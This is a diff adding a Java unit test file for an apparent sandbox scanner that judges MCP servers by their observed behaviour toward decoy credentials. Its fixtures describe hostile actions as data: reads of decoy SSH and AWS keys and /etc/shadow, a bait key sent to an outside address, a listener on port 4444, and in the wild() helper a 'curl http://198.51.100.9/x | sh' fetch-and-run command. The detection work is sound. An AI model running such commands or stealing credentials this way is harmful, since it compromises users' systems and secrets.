@@ -1,0 +1,346 @@
+package io.mcpsf.judge;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.mcpsf.model.Confidence;
+import io.mcpsf.model.Coverage;
+import io.mcpsf.model.Evidence;
+import io.mcpsf.model.Finding;
+import io.mcpsf.model.Judgement;
+import io.mcpsf.model.Judgement.Item;
+import io.mcpsf.model.Maturity;
+import io.mcpsf.model.Observation.Access;
+import io.mcpsf.model.Observation.BaitLeft;
+import io.mcpsf.model.Observation.BaitTouched;
+import io.mcpsf.model.Observation.Bound;
+import io.mcpsf.model.Observation.Connected;
+import io.mcpsf.model.Observation.DnsAsked;
+import io.mcpsf.model.Observation.FileOpened;
+import io.mcpsf.model.Observation.Repeated;
+import io.mcpsf.model.Observation.Slept;
+import io.mcpsf.model.Observation.Touch;
+import io.mcpsf.model.Phase;
+import io.mcpsf.model.PhaseResult;
+import io.mcpsf.model.RuleInfo;
+import io.mcpsf.model.Sense;
+import io.mcpsf.model.SenseHealth;
+import io.mcpsf.model.Severity;
+import io.mcpsf.model.ToolCoverage;
+import io.mcpsf.model.Verdict;
+
+import org.junit.jupiter.api.Test;
+
+import java.util.ArrayList;
+import java.util.Collections;
+import java.util.EnumMap;
+import java.util.List;
+import java.util.Random;
+
+final class JudgeTest {
+
+    private static final RuleSet RULES = RuleSet.load();
+    private static final BaitTouched KEY = read("ssh", "/home/ana/.ssh/id_rsa");
+
+    @Test
+    void aDecoyThatLeftIsMalicious() {
+        Judgement judgement =
+                judge(
+                        new Story()
+                                .by(1)
+                                .sees(KEY)
+                                .sees(read("aws", "/home/ana/.aws/credentials"))
+                                .sees(
+                                        new BaitLeft(
+                                                "b", "ssh", "socket", "tcp 203.0.113.7:443", "x")));
+
+        assertThat(judgement.verdict()).isEqualTo(Verdict.MALICIOUS);
+        assertThat(judgement.summary())
+                .isEqualTo("Read 2 decoy credentials and tried to send them to 203.0.113.7:443.");
+        assertThat(judgement.risk().malice()).isEqualTo(100);
+        assertThat(judgement.recommendations().getFirst()).startsWith("Do not run this server");
+        assertThat(judgement.recommendations()).doesNotHaveDuplicates();
+    }
+
+    @Test
+    void aDecoyReadAndThenAConnectionIsMalicious() {
+        Judgement judgement =
+                judge(new Story().by(1).sees(KEY).sees(new Connected("tcp", "203.0.113.7", 443)));
+
+        assertThat(judgement.verdict()).isEqualTo(Verdict.MALICIOUS);
+        assertThat(judgement.summary())
+                .isEqualTo("Read a decoy credential and then tried to reach 203.0.113.7:443.");
+    }
+
+    @Test
+    void aDecoyReadAloneIsSuspicious() {
+        assertThat(judge(new Story().sees(KEY)).verdict()).isEqualTo(Verdict.SUSPICIOUS);
+    }
+
+    @Test
+    void aLoneWeakSignalIsNotSuspicious() {
+        Judgement judgement = judge(new Story().sees(new Slept(3_600_000)));
+
+        assertThat(judgement.findings()).extracting(Finding::rule).containsExactly("long-sleep");
+        assertThat(judgement.verdict()).isEqualTo(Verdict.NOTHING_SEEN);
+    }
+
+    @Test
+    void twoWeakSignalsOfDifferentFamiliesAreSuspicious() {
+        Judgement judgement =
+                judge(
+                        new Story()
+                                .sees(new Slept(3_600_000))
+                                .sees(new DnsAsked("api.telegram.org", "A", "")));
+
+        assertThat(judgement.verdict()).isEqualTo(Verdict.SUSPICIOUS);
+        assertThat(judgement.summary()).startsWith("Two weak signs");
+    }
+
+    @Test
+    void exposureWithoutMaliceIsRisky() {
+        Judgement judgement = judge(new Story().sees(new Bound("tcp", "0.0.0.0", 8080)));
+
+        assertThat(judgement.verdict()).isEqualTo(Verdict.RISKY);
+        assertThat(judgement.risk().malice()).isZero();
+    }
+
+    @Test
+    void nothingSeenSaysHowManyToolsAnswered() {
+        Judgement judgement = judge(new Story().calls(1, "add", "{}"));
+
+        assertThat(judgement.verdict()).isEqualTo(Verdict.NOTHING_SEEN);
+        assertThat(judgement.summary()).contains("1 of 1 tools answered");
+        assertThat(judgement.risk().score()).isZero();
+        assertThat(judgement.doubts()).isEmpty();
+    }
+
+    @Test
+    void everyReasonForDoubtForbidsACleanVerdict() {
+        Evidence whole = new Story().calls(1, "add", "{}").evidence();
+        Coverage full = whole.coverage();
+        var noList = new EnumMap<Phase, PhaseResult>(full.phases());
+        noList.remove(Phase.LIST);
+        var late = new EnumMap<Phase, PhaseResult>(full.phases());
+        late.put(Phase.IDLE, new PhaseResult(PhaseResult.Status.TIMED_OUT, 1, ""));
+        var failed = new EnumMap<Phase, PhaseResult>(full.phases());
+        failed.put(Phase.START, new PhaseResult(PhaseResult.Status.FAILED, 1, "it ended"));
+        var lossy = new EnumMap<Sense, SenseHealth>(full.senses());
+        lossy.put(Sense.FILES, SenseHealth.lossy(5, 1, "the queue was full"));
+        var blind = new EnumMap<Sense, SenseHealth>(full.senses());
+        blind.remove(Sense.SOCKETS);
+        var none = new ToolCoverage(10, 10, 7);
+
+        for (Coverage doubtful :
+                List.of(
+                        new Coverage(noList, full.senses(), full.tools(), full.isolation()),
+                        new Coverage(late, full.senses(), full.tools(), full.isolation()),
+                        new Coverage(failed, full.senses(), full.tools(), full.isolation()),
+                        new Coverage(full.phases(), lossy, full.tools(), full.isolation()),
+                        new Coverage(full.phases(), blind, full.tools(), full.isolation()),
+                        new Coverage(full.phases(), full.senses(), none, full.isolation()),
+                        Coverage.nothing())) {
+            Judgement judgement = judge(new Evidence(whole.file(), whole.seen(), doubtful));
+
+            assertThat(judgement.verdict()).isEqualTo(Verdict.INCONCLUSIVE);
+            assertThat(judgement.doubts()).hasSize(1);
+            assertThat(judgement.doubts().getFirst()).endsWith(".");
+            assertThat(judgement.risk().assurance()).isLessThan(100);
+            assertThat(judgement.risk().score()).isPositive();
+        }
+    }
+
+    @Test
+    void provenMaliceStandsThoughTheEvidenceBreaksOff() {
+        Evidence whole = new Story().sees(new BaitLeft("b", "ssh", "argv", "", "x")).evidence();
+        Judgement judgement = judge(new Evidence(whole.file(), whole.seen(), Coverage.nothing()));
+
+        assertThat(judgement.verdict()).isEqualTo(Verdict.MALICIOUS);
+        assertThat(judgement.doubts()).hasSize(1);
+        assertThat(judgement.notEvaluated()).isNotEmpty();
+        assertThat(judgement.notEvaluated()).noneMatch(rule -> rule.rule().equals("bait-left"));
+    }
+
+    @Test
+    void aBlindSenseListsTheRulesThatNeedIt() {
+        Evidence whole = new Story().calls(1, "add", "{}").evidence();
+        var blind = new EnumMap<Sense, SenseHealth>(whole.coverage().senses());
+        blind.put(Sense.RESOURCES, SenseHealth.blind("no cgroup"));
+        var coverage =
+                new Coverage(
+                        whole.coverage().phases(),
+                        blind,
+                        whole.coverage().tools(),
+                        whole.coverage().isolation());
+
+        assertThat(judge(new Evidence(whole.file(), whole.seen(), coverage)).notEvaluated())
+                .extracting(Judgement.NotEvaluated::rule)
+                .containsExactly("fork-bomb", "memory-bomb");
+    }
+
+    @Test
+    void noVolumeOfWeakThingsMovesMalice() {
+        var few = new Story().sees(new Slept(3_600_000));
+        var many = new Story().sees(new Slept(3_600_000));
+        for (int i = 0; i < 10_000; i++) {
+            many.sees(new Slept(3_600_000 + i)).sees(new DnsAsked("t" + i + ".invalid", "A", ""));
+        }
+        many.sees(new Repeated(1, 1_000_000));
+
+        assertThat(judge(many).risk().malice()).isEqualTo(judge(few).risk().malice());
+        assertThat(judge(many).verdict()).isEqualTo(Verdict.NOTHING_SEEN);
+        assertThat(judge(many).findings())
+                .allSatisfy(f -> assertThat(f.seen()).hasSizeLessThanOrEqualTo(50));
+    }
+
+    @Test
+    void theOrderOfRulesChangesNoByte() {
+        Evidence evidence = wild();
+        String expected = judge(evidence).toString();
+        var rules = new ArrayList<>(RULES.rules());
+        for (int seed = 0; seed < 5; seed++) {
+            Collections.shuffle(rules, new Random(seed));
+
+            assertThat(Judge.judge(evidence, RuleSet.of(rules)).toString()).isEqualTo(expected);
+        }
+    }
+
+    @Test
+    void thePointsOfTheItemsAddUpToTheScore() {
+        for (Evidence evidence :
+                List.of(
+                        wild(),
+                        new Story().sees(KEY).evidence(),
+                        new Story().sees(new Bound("tcp", "0.0.0.0", 80)).sees(KEY).evidence())) {
+            Judgement.Risk risk = judge(evidence).risk();
+
+            assertThat(risk.items().stream().mapToInt(Item::points).sum()).isEqualTo(risk.score());
+        }
+    }
+
+    @Test
+    void findingsStandWorstFirstAndKnowTheirTool() {
+        Judgement judgement =
+                judge(
+                        new Story()
+                                .sees(new DnsAsked("t.invalid", "A", ""))
+                                .calls(1, "weather", "{\"city\":\"Bern\"}")
+                                .sees(KEY));
+
+        assertThat(judgement.findings())
+                .extracting(Finding::severity)
+                .isSortedAccordingTo(Collections.reverseOrder());
+        assertThat(judgement.findings().getFirst().tool()).isEqualTo("weather");
+        assertThat(judgement.findings().getFirst().phase()).isEqualTo(Phase.CALL);
+    }
+
+    @Test
+    void anIdIsTheSameForAnotherPersona() {
+        assertThat(judge(new Story().sees(read("ssh", "/home/bo/.ssh/id_rsa"))).findings())
+                .extracting(Finding::id)
+                .containsAll(
+                        judge(new Story().sees(KEY)).findings().stream().map(Finding::id).toList());
+    }
+
+    @Test
+    void fortyDecoysOfOneKindAreOneFinding() {
+        var story = new Story();
+        for (int i = 0; i < 80; i++) {
+            story.sees(new BaitTouched("key" + i, "ssh", "/home/ana/.ssh/id_" + i, Touch.READ));
+        }
+
+        Finding finding =
+                judge(story).findings().stream()
+                        .filter(f -> f.rule().equals("bait-read"))
+                        .reduce(
+                                (a, b) -> {
+                                    throw new AssertionError("more than one finding");
+                                })
+                        .orElseThrow();
+        assertThat(finding.message()).endsWith("(and 79 more like it)");
+        assertThat(finding.seen()).hasSize(50);
+    }
+
+    @Test
+    void aTrialRuleIsShownAndNeverDecides() {
+        var trial =
+                new Rule() {
+                    @Override
+                    public About about() {
+                        var stable = new BaitRead().about();
+                        var info = stable.info();
+                        return new About(
+                                new RuleInfo(
+                                        "trial-rule",
+                                        info.title(),
+                                        Severity.CRITICAL,
+                                        Confidence.PROVEN,
+                                        info.axis(),
+                                        Maturity.TRIAL,
+                                        info.needs(),
+                                        info.references(),
+                                        info.advice()),
+                                stable.family(),
+                                stable.description());
+                    }
+
+                    @Override
+                    public List<Finding> judge(Trail trail) {
+                        var claims = new Claims(info(), trail);
+                        claims.add("", "Always.", trail.evidence().seen().getFirst());
+                        return claims.findings();
+                    }
+
+                    @Override
+                    public List<Example> examples() {
+                        return List.of();
+                    }
+                };
+        Judgement judgement =
+                Judge.judge(
+                        new Story().calls(1, "add", "{}").evidence(), RuleSet.of(List.of(trial)));
+
+        assertThat(judgement.findings()).hasSize(1);
+        assertThat(judgement.verdict()).isEqualTo(Verdict.NOTHING_SEEN);
+        assertThat(judgement.risk().score()).isZero();
+    }
+
+    @Test
+    void anAlarmBeforeTheFirstCallIsSaidSoAndDecidesNothingMore() {
+        Judgement judgement = judge(new Story().sees(KEY).calls(1, "add", "{}"));
+
+        assertThat(judgement.findings())
+                .anySatisfy(
+                        finding -> {
+                            assertThat(finding.rule()).isEqualTo("before-first-call");
+                            assertThat(finding.severity()).isEqualTo(Severity.MEDIUM);
+                        });
+        assertThat(judgement.verdict()).isEqualTo(Verdict.SUSPICIOUS);
+    }
+
+    private static Evidence wild() {
+        return new Story()
+                .by(1)
+                .sees(KEY)
+                .sees(read("aws", "/home/ana/.aws/credentials"))
+                .sees(new FileOpened("/etc/shadow", "/etc/shadow", Access.READ, true))
+                .sees(new FileOpened("/home/ana/.bashrc", "", Access.WRITE, true))
+                .sees(new DnsAsked("x.oast.pro", "A", ""))
+                .calls(1, "add", "{}")
+                .starts(2, 1, "/bin/sh", "sh", "-c", "curl http://198.51.100.9/x | sh")
+                .sees(new Connected("tcp", "198.51.100.9", 80))
+                .sees(new Bound("tcp", "0.0.0.0", 4444))
+                .evidence();
+    }
+
+    private static BaitTouched read(String kind, String path) {
+        return new BaitTouched(kind + "-bait", kind, path, Touch.READ);
+    }
+
+    private static Judgement judge(Story story) {
+        return judge(story.evidence());
+    }
+
+    private static Judgement judge(Evidence evidence) {
+        return Judge.judge(evidence, RULES);
+    }
+}
